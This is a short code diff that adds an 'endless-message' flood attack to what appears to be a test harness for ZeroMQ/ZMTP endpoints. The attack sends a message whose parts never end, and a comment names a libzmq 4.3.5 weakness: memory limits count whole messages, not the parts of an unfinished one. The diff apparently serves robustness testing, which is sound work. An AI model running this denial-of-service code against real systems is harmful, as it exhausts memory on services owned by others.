@@ -61,6 +61,21 @@ const floodOfParts: Attack = {
   },
 }
 
+/** One message of parts without end. */
+const endlessMessage: Attack = {
+  name: 'endless-message',
+  patterns: patternNames,
+  counted: [],
+  known:
+    'memory is not bounded: libzmq 4.3.5 counts messages for its marks, and not the parts of one that has not ended',
+  async run(context) {
+    const socket = await agreedPeer(context)
+    const parts = Buffer.concat(Array(1000).fill(zmtpFrame(Buffer.alloc(100), { more: true })))
+    await flood(socket, parts, 1000 * context.scale)
+    reset(socket, context.target.endpoint)
+  },
+}
+
 /** Subscriptions to many prefixes, long ones, the same again and again, and in both forms of ZMTP 3.1. */
 const subscriptionFlood: Attack = {
   name: 'subscription-flood',
@@ -93,4 +108,4 @@ const subscriptionFlood: Attack = {
 }
 
 /** The attacks. */
-export const floodAttacks: readonly Attack[] = [floodAndReset, floodOfParts, subscriptionFlood]
+export const floodAttacks: readonly Attack[] = [floodAndReset, floodOfParts, endlessMessage, subscriptionFlood]
